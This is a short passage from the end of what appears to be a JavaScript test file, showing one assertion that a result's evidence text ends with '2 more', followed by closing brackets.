    assert.ok(exe[0].evidence.endsWith('2 more'), exe[0].evidence);
  });

});
